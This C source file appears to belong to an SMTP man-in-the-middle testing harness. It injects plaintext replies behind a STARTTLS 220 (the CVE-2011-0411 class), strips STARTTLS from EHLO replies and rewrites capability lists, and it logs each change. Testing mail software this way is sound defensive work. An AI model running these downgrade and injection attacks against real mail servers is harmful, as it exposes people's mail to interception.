/*
 * mitm_reply: what the attacker's path does to reply text: building the
 * attacker's own replies (default texts per code), reply text to and from
 * struct smtp_reply, recording lines as they go to the sender, the
 * replies starttls_inject puts behind a 220 or a refusal (and which of
 * them the sender takes for which command), and EHLO capability lists
 * (strip_starttls, caps, and no second STARTTLS inside the attacker's
 * TLS).  See mitm_int.h for the split.
 *
 * Logs: every change is a '!' line of the session transcript.
 */
#include "attacker/mitm_int.h"

#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "core/util.h"

#define INJECT_REPLY_DEFAULT "250-evil.attacker.test\n250 PIPELINING"

/* --- replies as text --- */

int
mitm_text_code(const char *text)
{
	return atoi(text);
}

/* Default reply text for an attacker's code. */
const char *
mitm_default_text(int code)
{
	static const struct { int code; const char *text; } t[] = {
		{ 220, "2.0.0 Ready to start TLS" },
		{ 354, "End data with <CR><LF>.<CR><LF>" },
		{ 421, "4.3.2 Service not available, closing transmission channel" },
		{ 454, "4.7.0 TLS not available due to local problem" },
		{ 500, "5.5.2 Error: command not recognized" },
		{ 502, "5.5.1 Error: command not implemented" },
		{ 530, "5.7.0 Must issue a STARTTLS command first" },
		{ 554, "5.7.1 Transaction failed" },
	};

	for (size_t i = 0; i < ARRAY_LEN(t); i++)
		if (t[i].code == code)
			return t[i].text;
	switch (code / 100) {
	case 2:
		return "2.0.0 Ok";
	case 3:
		return "Go ahead";
	case 4:
		return "4.0.0 Try again later";
	default:
		return "5.0.0 Rejected";
	}
}

char *
mitm_code_reply(int code, const char *text)
{
	return xasprintf("%d %s", code, text != NULL ? text : mitm_default_text(code));
}

/* Record each line of text ("a\nb") as sent to the sender and append it
 * with CRLF to b. */
void
mitm_add_lines(struct msess *ms, struct buf *b, const char *text)
{
	const char *p = text;

	while (*p) {
		const char *nl = strchr(p, '\n');
		size_t n = nl ? (size_t)(nl - p) : strlen(p);
		rec_line(ms->m->rec, ms->s, '<', "%.*s", (int)n, p);
		buf_append(b, p, n);
		buf_append(b, "\r\n", 2);
		p += n;
		if (*p == '\n')
			p++;
	}
}

/* The reply lines of text, as a struct smtp_reply. */
void
mitm_reply_from_text(struct smtp_reply *r, const char *text)
{
	const char *p = text;

	smtp_reply_init(r);
	while (*p) {
		const char *nl = strchr(p, '\n');
		size_t n = nl ? (size_t)(nl - p) : strlen(p);
		if (smtp_reply_feed(r, p, n) != 0)
			break;
		p += n + (nl != NULL);
	}
}

char *
mitm_reply_to_text(const struct smtp_reply *r)
{
	struct buf b;
	char *s;

	buf_init(&b);
	for (size_t i = 0; i < r->nlines; i++)
		buf_appendf(&b, "%s%s", i ? "\n" : "", r->lines[i]);
	s = xstrdup(buf_cstr(&b));
	buf_free(&b);
	return s;
}

/* --- injection (starttls_inject) --- */

const struct mitm_attack *
mitm_inject_of(const struct msess *ms, const char *mode)
{
	for (size_t i = 0; i < ms->nact; i++) {
		const struct mitm_attack *a = ms->act[i];
		if (a->kind == MITM_STARTTLS_INJECT &&
		    strcmp(a->mode ? a->mode : "reply", mode) == 0)
			return a;
	}
	return NULL;
}

/* Append the replies injected behind a 220 to STARTTLS (reply mode, no
 * code of its own), if any, to b. */
void
mitm_inject_after_220(struct msess *ms, struct buf *b)
{
	const struct mitm_attack *a = mitm_inject_of(ms, "reply");
	const char *text;
	size_t before = b->len;

	if (a == NULL || a->code != 0)
		return;
	text = a->text ? a->text : INJECT_REPLY_DEFAULT;
	mitm_add_lines(ms, b, text);
	mitm_note(ms, "injected %zu bytes of plaintext replies right behind the 220, "
	    "in the same segment (CVE-2011-0411 class)", b->len - before);
}

/* The sender will read the replies of text as the answers to its next
 * commands: remember their codes in order. */
void
mitm_track_injected(struct msess *ms, const char *text)
{
	struct smtp_reply r;
	const char *p = text;

	smtp_reply_init(&r);
	while (*p) {
		const char *nl = strchr(p, '\n');
		size_t n = nl ? (size_t)(nl - p) : strlen(p);
		if (smtp_reply_feed(&r, p, n) == 1 && ms->ninj < MITM_MAX_INJECTED)
			ms->inj[ms->ninj++] = r.code;
		p += n + (nl != NULL);
	}
	smtp_reply_clear(&r);
}

/* The injected reply the sender takes as the answer to `what`, or 0. */
int
mitm_take_injected(struct msess *ms, const char *what)
{
	int code;

	if (ms->ninj == 0)
		return 0;
	code = ms->inj[0];
	memmove(ms->inj, ms->inj + 1, (ms->ninj - 1) * sizeof(ms->inj[0]));
	ms->ninj--;
	mitm_note(ms, "the sender takes the injected %d as the reply to %s", code, what);
	return code;
}

/* --- EHLO capabilities (strip_starttls, caps) --- */

static void
fix_marks(struct smtp_reply *r)
{
	for (size_t i = 0; i < r->nlines; i++)
		if (strlen(r->lines[i]) >= 4)
			r->lines[i][3] = i + 1 < r->nlines ? '-' : ' ';
		else {
			char *l = xasprintf("%.3s%c", r->lines[i], i + 1 < r->nlines ? '-' : ' ');
			free(r->lines[i]);
			r->lines[i] = l;
		}
}

/* The capability keyword of line i of a 250 EHLO reply matches kw. */
static bool
capa_is(const char *line, const char *kw)
{
	size_t n = strlen(kw);

	return strlen(line) >= 4 + n && strncasecmp(line + 4, kw, n) == 0 &&
	    (line[4 + n] == '\0' || line[4 + n] == ' ' || line[4 + n] == '=');
}

static void
remove_capa(struct smtp_reply *r, const char *kw, size_t *removed)
{
	size_t o = 1;

	for (size_t i = 1; i < r->nlines; i++) {
		if (capa_is(r->lines[i], kw)) {
			free(r->lines[i]);
			(*removed)++;
			continue;
		}
		r->lines[o++] = r->lines[i];
	}
	if (r->nlines > 0)
		r->nlines = o;
}

static void
add_capa(struct smtp_reply *r, const char *capa)
{
	r->lines = xrealloc(r->lines, (r->nlines + 1) * sizeof(*r->lines));
	r->lines[r->nlines++] = xasprintf("250 %s", capa);
}

/* Remove STARTTLS from a 250 EHLO reply. */
static void
strip_starttls(struct msess *ms, struct smtp_reply *r, bool quiet)
{
	size_t removed = 0;

	remove_capa(r, "STARTTLS", &removed);
	fix_marks(r);
	if (removed > 0 && !quiet)
		mitm_note(ms, "removed STARTTLS from the EHLO reply");
}

static void
apply_caps(struct msess *ms, struct smtp_reply *r)
{
	bool tls = mitm_tls_with_sender(ms);

	for (size_t i = 0; i < ms->nact; i++) {
		const struct mitm_attack *a = ms->act[i];
		const char *mode = a->mode ? a->mode : "tls";
		size_t removed = 0;
		if (a->kind != MITM_CAPS || r->nlines == 0 ||
		    (strcmp(mode, "tls") == 0 && !tls) || (strcmp(mode, "plain") == 0 && tls))
			continue;
		if (a->set != NULL) {
			for (size_t k = 1; k < r->nlines; k++)
				free(r->lines[k]);
			r->nlines = 1;
			for (size_t k = 0; a->set[k] != NULL; k++)
				add_capa(r, a->set[k]);
		}
		for (size_t k = 0; a->remove != NULL && a->remove[k] != NULL; k++)
			remove_capa(r, a->remove[k], &removed);
		for (size_t k = 0; a->add != NULL && a->add[k] != NULL; k++)
			add_capa(r, a->add[k]);
		fix_marks(r);
		struct buf b;
		buf_init(&b);
		for (size_t k = 1; k < r->nlines; k++)
			buf_appendf(&b, "%s%s", k > 1 ? ", " : "", r->lines[k] + 4);
		mitm_note(ms, "rewrote the %s EHLO capabilities: %s", tls ? "post-TLS" :
		    "plaintext", r->nlines > 1 ? buf_cstr(&b) : "(none)");
		buf_free(&b);
	}
}

/* An EHLO reply on its way to the sender. */
void
mitm_edit_ehlo(struct msess *ms, struct smtp_reply *r)
{
	bool tls = mitm_tls_with_sender(ms);

	if (mitm_active(ms, MITM_STRIP_STARTTLS) != NULL || ms->split_mx != NULL ||
	    tls)
		strip_starttls(ms, r, tls);   /* no second STARTTLS inside our TLS */
	apply_caps(ms, r);
	if (!tls)
		ms->s->starttls_offered = smtp_reply_has_capa(r, "STARTTLS");
}

